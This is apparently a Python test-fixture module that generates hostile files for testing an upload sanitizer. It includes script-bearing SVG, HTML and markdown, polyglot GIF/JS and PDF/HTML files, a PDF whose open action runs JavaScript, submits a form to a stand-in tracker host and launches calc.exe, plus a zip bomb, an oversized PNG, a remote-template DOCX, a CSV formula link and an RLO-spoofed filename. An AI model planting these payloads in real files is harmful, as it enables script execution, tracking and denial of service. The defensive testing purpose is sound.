"""Files that nobody should have to trust: made here, byte by byte. Where a person's name is planted, it is `NAME`."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText, Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

NAME = "Wairemana Planted"
# What a script would do if it ran: leave a mark, open a box, fetch. A browser that shows none of it has run none.
SCRIPT = "window.ranHere=1;alert('ran');fetch('https://tracker.example/ran')"
HTML = f"<!DOCTYPE html><html><body><script>{SCRIPT}</script><img src=https://tracker.example/p.gif></body></html>"


def svg():
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'.encode()


def html():
    return HTML.encode()


def picture(kind="PNG", *, size=(64, 48), **saved):
    file = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(file, kind, **saved)
    return file.getvalue()


def jpeg_with_place():
    """As a telephone writes it: who, with what, where; turned by a quarter; and a comment."""
    exif = Image.Exif()
    exif[0x010F], exif[0x013B], exif[0x0112], exif[0x8298] = "Telephone of " + NAME, NAME, 6, NAME
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "S", (41.0, 17.0, 20.0), "E", (174.0, 46.0, 38.0)
    exif.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + NAME.encode()
    xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><creator>{NAME}</creator></x:xmpmeta>'.encode()
    return picture("JPEG", exif=exif, comment=NAME.encode(), xmp=xmp)


def png_with_words():
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", NAME)
    words.add_itxt("Comment", HTML)
    words.add_text("Packed", NAME, zip=True)
    return picture("PNG", pnginfo=words)


def huge_png():
    """9,000 by 9,000 pixels in a kilobyte."""
    head = struct.pack(">IIBBBBB", 9000, 9000, 8, 0, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(9001))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )


def gif_and_script():
    """A GIF whose first bytes are a script's name as well: `GIF89a=…`."""
    gif = bytearray(picture("GIF"))
    gif[6:8] = b"=1"
    return bytes(gif) + f"/*\n*/;{SCRIPT};".encode()


def moving_gif():
    file = io.BytesIO()
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("teal", "olive", "maroon")]
    frames[0].save(file, "GIF", save_all=True, append_images=frames[1:], duration=80, comment=NAME.encode())
    return file.getvalue()


def pdf(pages=3, *, words="Dagging and crutching", info=True, by_itself=False, inside=True, locked=""):
    """A paper of some pages; with everything in it that could act, when `by_itself`."""
    writer = PdfWriter()
    for number in range(1, pages + 1):
        page = writer.add_blank_page(300, 400)
        _write(writer, page, f"Page {number} of a record: {words} {number}")
    if info:
        writer.add_metadata({"/Author": NAME, "/Creator": NAME, "/Title": NAME})
        writer.xmp_metadata = (
            '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{NAME}</dc:creator></rdf:Description></rdf:RDF>'
            '</x:xmpmeta><?xpacket end="w"?>'
        ).encode()
        note = FreeText(text="A note", rect=(10, 10, 90, 40))
        note[NameObject("/T")] = TextStringObject(NAME)
        writer.add_annotation(0, note)
    if by_itself:
        _let_it_act(writer, inside=inside)
    if locked:
        writer.encrypt(locked, algorithm="AES-256")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def pdf_with_jpeg_2000():
    """A page that is one picture, olive, of the sort that a browser can't unpack by itself."""
    file, writer = io.BytesIO(), PdfWriter()
    Image.new("RGB", (64, 64), "olive").save(file, "JPEG2000", no_jp2=True)
    page = writer.add_blank_page(100, 100)
    photo = StreamObject()
    photo.update(
        {
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(64),
            NameObject("/Height"): NumberObject(64),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/JPXDecode"),
        }
    )
    photo._data = file.getvalue()
    stream = StreamObject()
    stream.set_data(b"q 100 0 0 100 0 0 cm /I1 Do Q")
    page[NameObject("/Contents")] = writer._add_object(stream)
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/I1"): writer._add_object(photo)})}
    )
    whole = io.BytesIO()
    writer.write(whole)
    return whole.getvalue()


def _write(writer, page, words):
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    photo = StreamObject()
    photo.update(
        {
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(64),
            NameObject("/Height"): NumberObject(48),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/DCTDecode"),
        }
    )
    photo._data = jpeg_with_place()
    stream = StreamObject()
    stream.set_data(f"q 64 0 0 48 20 200 cm /I1 Do Q BT /F1 14 Tf 20 350 Td ({words}) Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(stream)
    page[NameObject("/Resources")] = DictionaryObject(
        {
            NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)}),
            NameObject("/XObject"): DictionaryObject({NameObject("/I1"): writer._add_object(photo)}),
        }
    )


def _action(kind, **rest):
    named = {NameObject(f"/{name}"): TextStringObject(value) for name, value in rest.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject("/Type"): NameObject("/Action"), **named})


def _let_it_act(writer, *, inside):
    script = _action("/JavaScript", JS="app.alert('ran');this.submitForm('https://tracker.example/form')")
    named = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): named})
    writer._root_object[NameObject("/OpenAction")] = script
    first = writer.pages[0]
    first[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/Launch", F="calc.exe")})
    writer.add_annotation(0, Link(rect=(0, 0, 300, 400), url="https://tracker.example/pressed"))
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Btn"),
            NameObject("/Rect"): ArrayObject(NumberObject(side) for side in (10, 60, 90, 80)),
            NameObject("/A"): _action("/SubmitForm", F="https://tracker.example/form"),
            NameObject("/AA"): DictionaryObject({NameObject("/E"): script}),
        }
    )
    first[NameObject("/Annots")].append(writer._add_object(note))
    if inside:
        writer.add_attachment("page.html", HTML.encode())


def pdf_and_html():
    """Its head is a page of a browser's too, and behind its end stands another."""
    return b"%PDF-1.4\n%" + HTML.encode() + b"\n" + pdf()[9:] + b"\n" + HTML.encode()


def zip_bomb(name="word/document.xml", *, size=400 * 1024 * 1024):
    """Some hundred kilobytes that unpack to hundreds of megabytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        with archive.open(name, "w") as entry:
            for _number in range(size // (1024 * 1024)):
                entry.write(bytes(1024 * 1024))
    return file.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def docx():
    """Its author, who changed it, who commented; a template and a picture that are fetched from elsewhere."""
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = "https://tracker.example/template.dotm"
    return packed(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": _relations(("officeDocument", "word/document.xml", "")),
            "word/document.xml": f'<?xml version="1.0"?><w:document {word} xmlns:r="{relations}"><w:body><w:p>'
            f'<w:ins w:id="1" w:author="{NAME}" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Ten ewes, one morning.</w:t></w:r>'
            f"</w:ins></w:p></w:body></w:document>",
            "word/comments.xml": f'<?xml version="1.0"?><w:comments {word}><w:comment w:id="0" w:author="{NAME}" '
            f"w:initials='{NAME}'/></w:comments>",
            "word/people.xml": f'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
            f'<w15:person w15:author="{NAME}"><w15:presenceInfo w15:providerId="AD" w15:userId="{NAME}"/></w15:person>'
            f"</w15:people>",
            "word/_rels/settings.xml.rels": _relations(("attachedTemplate", outside, "External")),
            "word/_rels/document.xml.rels": _relations(
                ("image", "https://tracker.example/seen.png", "External"),
                ("hyperlink", "https://people.example/ewes", "External"),
            ),
            "word/media/image1.jpeg": jpeg_with_place(),
            "docProps/core.xml": f'<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>{NAME}</dc:creator>'
            f"<cp:lastModifiedBy>{NAME}</cp:lastModifiedBy></cp:coreProperties>",
            "docProps/app.xml": f"<Properties><Manager>{NAME}</Manager><Company>{NAME}</Company></Properties>",
        }
    )


def odt():
    office = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    )
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {office}><office:body>'
            f"<office:annotation><dc:creator>{NAME}</dc:creator></office:annotation>Ten ewes.</office:body>"
            f"</office:document-content>",
            "meta.xml": f"<office:document-meta {office}><office:meta><dc:creator>{NAME}</dc:creator></office:meta>"
            f"</office:document-meta>",
        }
    )


def _relations(*rows):
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{base}/{kind}" Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def packed(parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, kind)
    return file.getvalue()


def sound(seconds=1):
    """A WAV file of silence."""
    rate = 8000
    data = bytes([128]) * (rate * seconds)
    head = struct.pack(
        "<4sI4s4sIHHIIHH4sI", b"RIFF", 36 + len(data), b"WAVE", b"fmt ", 16, 1, 1, rate, rate, 1, 8, b"data", len(data)
    )
    return head + data


def film_with_html():
    """The first box says MP4; what follows is a page."""
    return (
        b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x04\x00free" + HTML.encode().ljust(1016, b" ")
    )


def markdown():
    return (
        "# Log\n\n[press](javascript:alert('ran')) [data](data:text/html,<script>alert(1)</script>)\n\n"
        f'<script>{SCRIPT}</script>\n\n<img src=x onerror="{SCRIPT}">\n\n![seen](https://tracker.example/p.gif)\n'
    ).encode()


def table():
    return f'name,weight\n"=HYPERLINK(""https://tracker.example/"")",1\n<script>{SCRIPT}</script>,2\n'.encode()


# name that its sender gives it, kind, content
CORPUS = (
    ("drawing.svg", "document", svg),
    ("drawing.png", "image", svg),
    ("page.html", "document", html),
    ("page.pdf", "document", html),
    ("page.txt", "document", html),
    ("script.gif", "image", gif_and_script),
    ("both.pdf", "document", pdf_and_html),
    ("acts.pdf", "document", lambda: pdf(by_itself=True)),
    ("photo.pdf", "document", pdf_with_jpeg_2000),
    ("bomb.docx", "document", zip_bomb),
    ("film.mp4", "video", film_with_html),
    ("huge.png", "image", huge_png),
    ("words.png", "image", png_with_words),
    ("place.jpg", "image", jpeg_with_place),
    ("letter.docx", "document", docx),
    ("letter.odt", "document", odt),
    ("photo\u202egpj.txt", "document", html),
    ("log.md", "document", markdown),
    ("ewes.csv", "data", table),
    ("picture.pdf", "document", lambda: picture("JPEG")),
    ("sound.wav", "audio", sound),
)


def read_pdf(data):
    return PdfReader(io.BytesIO(data))
